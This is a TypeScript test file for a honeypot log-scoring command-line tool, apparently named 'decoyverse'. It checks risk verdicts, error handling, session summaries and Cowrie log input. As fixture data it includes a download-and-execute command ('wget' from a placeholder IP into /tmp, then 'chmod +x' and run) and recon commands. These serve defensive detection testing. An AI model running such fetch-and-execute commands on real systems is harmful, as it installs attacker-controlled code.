import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { createPlace, nativeLines } from '../support/command-line.ts';

const event = (activity: string, payload: string, extra: object, second: number) =>
  JSON.stringify({
    timestamp: `2026-08-21T10:15:${String(second).padStart(2, '0')}Z`,
    service: 'ssh',
    source_ip: '203.0.113.9',
    activity,
    payload,
    extra,
  });
const lines = (text: string): Record<string, unknown>[] =>
  text
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line) as Record<string, unknown>);

describe('decoyverse score', () => {
  it('prints one verdict a line, in the order of the events', async (t) => {
    const place = createPlace(t);
    const input = [
      event('connection', '', {}, 1),
      event('command', 'cd /tmp && wget http://198.51.100.99/x86 -O .x && chmod +x .x && ./.x', {}, 2),
    ].join('\n');
    const { code, stdout } = await place.run(['score'], { input });
    assert.equal(code, 0);
    const verdicts = lines(stdout);
    assert.equal(verdicts.length, 2);
    for (const verdict of verdicts)
      assert.deepEqual(Object.keys(verdict).slice(0, 8), [
        'attack_type',
        'risk_score',
        'confidence',
        'is_anomaly',
        'tactics',
        'techniques',
        'reasons',
        'model',
      ]);
    assert.ok(Number(verdicts[1]?.risk_score) > Number(verdicts[0]?.risk_score));
    assert.ok(Number(verdicts[1]?.risk_score) >= 7);
  });

  it('remembers sources: the hundredth failed sign-in weighs more than the first', async (t) => {
    const { stdout } = await createPlace(t).run(['score', '-'], { input: nativeLines(500) });
    const verdicts = lines(stdout);
    assert.equal(verdicts.length, 500);
    assert.ok(Number(verdicts[499]?.risk_score) > Number(verdicts[0]?.risk_score));
  });

  it('puts an error in the place of what is no event, and goes on', async (t) => {
    const place = createPlace(t);
    writeFileSync(
      join(place.folder, 'a.ndjson'),
      `${event('x', 'id', {}, 1)}\nbroken\n{}\n${event('x', 'id', {}, 2)}\n`,
    );
    const { code, stdout } = await place.run(['score', 'a.ndjson', 'gone.ndjson']);
    assert.equal(code, 3);
    const out = lines(stdout);
    assert.equal(out.length, 4);
    assert.match(String(out[1]?.error), /^a\.ndjson:2: is not valid JSON/);
    assert.match(String(out[2]?.error), /^a\.ndjson:3: timestamp: is required/);
    assert.ok('attack_type' in (out[3] ?? {}));
  });

  it('with --sessions tells each session when it ends, once', async (t) => {
    const place = createPlace(t);
    const input = [
      event('login succeeded', 'root:x', { session: 'a' }, 1),
      event('command', 'uname -a', { session: 'a' }, 2),
      event('command', 'id', { session: 'b' }, 3),
      event('command', 'wget http://198.51.100.99/x', { session: 'a' }, 4),
      event('connection closed', '', { session: 'a' }, 5),
      event('connection', '', {}, 6),
    ].join('\n');
    const { stdout } = await place.run(['score', '--sessions'], { input });
    const out = lines(stdout);
    assert.equal(out.length, 8);
    const sessions = out.filter((line) => 'session' in line);
    assert.deepEqual(
      sessions.map(({ session }) => session),
      ['a', 'b'],
    );
    assert.equal(out.indexOf(sessions[0] ?? {}), 5, 'told with the event that ended it');
    const statements = sessions[0]?.statements as { text: string; tactic: string }[];
    assert.deepEqual(
      statements.map(({ text }) => text),
      ['uname -a', 'wget http://198.51.100.99/x'],
    );
    for (const key of ['session', 'attack_type', 'risk_score', 'reasons', 'statements'])
      assert.ok(key in (sessions[0] ?? {}), key);
  });

  it('ends when its reader has seen enough', async (t) => {
    const running = createPlace(t).start(['score']);
    running.child.stdout.once('data', () => running.child.stdout.destroy());
    running.child.stdin.end(nativeLines(20_000));
    const { code, stderr } = await running.ended;
    assert.equal(code, 0);
    assert.doesNotMatch(stderr, /error/i);
  });

  it('judges a Cowrie log as it is', async (t) => {
    const input = JSON.stringify({
      eventid: 'cowrie.login.failed',
      src_ip: '203.0.113.9',
      session: 'a',
      protocol: 'ssh',
      username: 'root',
      password: 'x',
      timestamp: '2026-08-21T10:15:31.000001Z',
    });
    const { code, stdout } = await createPlace(t).run(['score', '-f', 'cowrie'], { input });
    assert.equal(code, 0);
    assert.equal(lines(stdout).length, 1);
  });
});
